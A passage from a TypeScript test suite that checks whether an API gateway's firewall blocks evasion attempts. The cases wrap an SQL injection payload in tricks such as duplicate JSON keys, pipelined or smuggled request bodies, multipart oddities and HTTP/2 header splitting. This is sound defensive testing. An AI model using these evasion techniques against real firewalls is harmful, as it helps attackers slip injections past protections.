    build: (p) => post(p, MP, mp([`${cd('q', '; filename=""')}\r\n\r\n${SQLI}`])),
  },
  {
    name: 'B6: duplicate JSON member, hostile copy first (first-wins parsers use it)',
    status: 400,
    build: (p) => postJson(p, `{"q":${J(SQLI)},"q":"x"}`),
  },
  {
    name: 'B6: duplicate member in GraphQL GET variables (API profile)',
    status: 403,
    profiles: ['api'],
    build: (p) =>
      get(
        `${p}graphql?query=${E('query($q:String){s(q:$q){id}}')}&variables=${E(`{"q":${J(SQLI)},"q":"x"}`)}`,
      ),
  },
];

describe(
  'audit8: WAF evasions the gateway stops (CRS PL1, blocking; API and crs profiles)',
  {
    timeout: 60_000,
  },
  () => {
    let up: TestUpstream;
    let gw: TestGateway;

    before(async () => {
      up = await startUpstream();
      gw = await startGateway(
        `gatehouse: 1
workers: 1
admin: { enabled: false }
logging: { level: warn, access_log: false }
listeners: [{ name: main, host: 127.0.0.1, port: 0 }]
upstreams: [{ name: backend, targets: [{ url: "${up.url}" }] }]
routes:
  - name: crs
    paths: ["/crs/*"]
    upstream: backend
    policies:
      waf: { rules: ${RULES}, profile: crs }
  - name: api
    paths: ["/*"]
    upstream: backend
    policies:
      waf: { rules: ${RULES} }
`,
        {},
        { policies: [...builtinPolicies, waf] },
      );
    });

    after(async () => {
      await gw?.close();
      await up?.close();
    });

    /** Sends raw bytes; returns every status the gateway answered and the requests the upstream received. */
    async function send(payload: Buffer) {
      const n = up.requests.length;
      const out = await rawRequest(gw.port, payload, 2000);
      return { statuses: statuses(out), out, reached: up.requests.slice(n) };
    }

    test('control: benign JSON, GET and multipart requests reach the upstream on both profiles', async () => {
      for (const p of Object.values(PREFIX)) {
        for (const payload of [
          postJson(p, J({ name: 'garden lantern', qty: 2 })),
          get(`${p}items?q=garden+lantern`),
          post(p, MP, mp([`${cd('title')}\r\n\r\nHoliday pictures`])),
        ]) {
          const r = await send(payload);
          assert.deepEqual(r.statuses, [200], r.out);
          assert.equal(r.reached.length, 1);
        }
      }
    });

    test('control (API profile): benign text/plain and multipart/related bodies still reach the upstream', async () => {
      for (const payload of [
        post('/', 'text/plain', 'Thanks for the quick delivery, the parcel arrived in one piece!'),
        post('/', 'text/plain;charset=UTF-8', J({ event: 'page_view', path: '/pricing' })),
        post('/', 'multipart/related; boundary=b', mp([`${cd('meta')}\r\n\r\n{"title":"Quarterly report"}`])),
        post(
          '/',
          MP,
          mp([`${cd('avatar', '; filename=""')}\r\nContent-Type: application/octet-stream\r\n\r\n`]),
        ),
      ]) {
        const r = await send(payload);
        assert.deepEqual(r.statuses, [200], r.out);
        assert.equal(r.reached.length, 1);
      }
    });

    for (const c of CASES) {
      test(`refused: ${c.name}`, async () => {
        for (const profile of c.profiles ?? BOTH) {
          const r = await send(c.build(PREFIX[profile]));
          assert.equal(r.statuses.at(-1), c.status, `${profile}: ${r.out.slice(0, 400)}`);
          assert.deepEqual(
            r.reached.map((q) => `${q.method} ${q.url}`),
            [],
            `${profile}: the upstream saw the request`,
          );
        }
      });
    }

    test('refused: pipelined attack behind a benign request (only the benign one reaches the upstream)', async () => {
      for (const p of Object.values(PREFIX)) {
        const benign = `POST ${p}x HTTP/1.1\r\nHost: api.example.com\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\nContent-Type: application/json\r\nContent-Length: 2\r\n\r\n{}`;
        const r = await send(Buffer.concat([Buffer.from(benign), postJson(p, J({ q: SQLI }))]));
        assert.deepEqual(r.statuses, [200, 403], r.out);
        assert.deepEqual(
          r.reached.map((q) => q.body.toString()),
          ['{}'],
        );
      }
    });

    test('refused: body sent after Content-Length: 0 (read as a second, malformed request)', async () => {
      for (const p of Object.values(PREFIX)) {
        const raw = `POST ${p}x HTTP/1.1\r\nHost: api.example.com\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\nContent-Type: application/json\r\nContent-Length: 0\r\n\r\n${J({ q: SQLI })}`;
        const r = await send(Buffer.from(raw));
        assert.deepEqual(r.statuses, [200, 400], r.out);
        assert.deepEqual(
          r.reached.map((q) => q.body.length),
          [0],
        );
      }
    });
  },
);

/** One HTTP/2 request; resolves with the status (or `stream-error`/`session-error`). */
function h2(port: number, headers: http2.OutgoingHttpHeaders, body?: string): Promise<string> {
  return new Promise((resolve) => {
    const session = http2.connect(`https://127.0.0.1:${port}`, { rejectUnauthorized: false });
    session.on('error', () => resolve('session-error'));
    const r = session.request({
      'user-agent': 'Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0',
      accept: 'application/json',
      ...headers,
    });
    r.on('response', (h) => {
      r.resume();
      r.on('end', () => {
        session.close();
        resolve(String(h[':status']));
      });
    });
    r.on('error', () => {
      session.close();
      resolve('stream-error');
    });
    r.end(body);
  });
}

describe('audit8: WAF evasions over HTTP/2 the gateway stops', { timeout: 30_000 }, () => {
  let up: TestUpstream;
  let gw: TestGateway;

  before(async () => {
    const dir = mkdtempSync(join(tmpdir(), 'gatehouse-audit8-h2-'));
    execFileSync(
      'openssl',
      [
        'req',
        '-x509',
        '-newkey',
        'ec',
        '-pkeyopt',
        'ec_paramgen_curve:prime256v1',
        '-nodes',
        '-keyout',
        'k.pem',
        '-out',
        'c.pem',
        '-days',
        '1',
        '-subj',
        '/CN=localhost',
      ],
      { cwd: dir, stdio: 'ignore', timeout: 20_000 },
    );
    up = await startUpstream();
    gw = await startGateway(
      `gatehouse: 1
workers: 1
admin: { enabled: false }
logging: { level: warn, access_log: false }
listeners:
  - name: main
    host: 127.0.0.1
    port: 0
    tls:
      http2: true
      certificates:
        - { cert: "${join(dir, 'c.pem')}", key: "${join(dir, 'k.pem')}" }
upstreams: [{ name: backend, targets: [{ url: "${up.url}" }] }]
routes:
  - name: crs
    paths: ["/crs/*"]
    upstream: backend
    policies:
      waf: { rules: ${RULES}, profile: crs }
  - name: api
    paths: ["/*"]
    upstream: backend
    policies:
      waf: { rules: ${RULES} }
`,
      {},
      { policies: [...builtinPolicies, waf] },
    );
  });

  after(async () => {
    await gw?.close();
    await up?.close();
  });

  const H2_CASES: readonly {
    name: string;
    expect: string;
    headers: (p: string) => http2.OutgoingHttpHeaders;
    body?: string;
  }[] = [
    {
      name: 'JSON body on a stream without Content-Length',
      expect: '403',
      headers: (p) => ({ ':method': 'POST', ':path': `${p}x`, 'content-type': 'application/json' }),
      body: J({ q: SQLI }),
    },
    {
      name: 'B1: JSON body on a stream without Content-Type or Content-Length',
      expect: '403',
      headers: (p) => ({ ':method': 'POST', ':path': `${p}x` }),
      body: J({ q: SQLI }),
    },
    {
      name: 'Content-Length smaller than the DATA frames',
      expect: 'stream-error',
      headers: (p) => ({
        ':method': 'POST',
        ':path': `${p}x`,
        'content-type': 'application/json',
        'content-length': '2',
      }),
      body: J({ q: SQLI }),
    },
    {
      name: 'cookie split over two cookie header fields',
      expect: '403',
      headers: (p) => ({ ':method': 'GET', ':path': `${p}x`, cookie: ['a=1', `sid=${E(SQLI)}`] }),
    },
    {
      name: 'query string attack',
      expect: '403',
      headers: (p) => ({ ':method': 'GET', ':path': `${p}x?q=${E(SQLI)}` }),
    },
  ];

  test('control: a benign HTTP/2 POST reaches the upstream', async () => {
    const n = up.requests.length;
    const st = await h2(
      gw.port,
      { ':method': 'POST', ':path': '/x', 'content-type': 'application/json' },
      J({ a: 'garden lantern' }),
    );
    assert.equal(st, '200');
    assert.equal(up.requests.length, n + 1);
  });

  for (const c of H2_CASES) {
    test(`refused over h2: ${c.name}`, async () => {
      for (const p of Object.values(PREFIX)) {
        const n = up.requests.length;
        assert.equal(await h2(gw.port, c.headers(p), c.body), c.expect, p);
        assert.equal(up.requests.length, n, `${p}: the upstream saw the request`);
      }
    });
  }
});
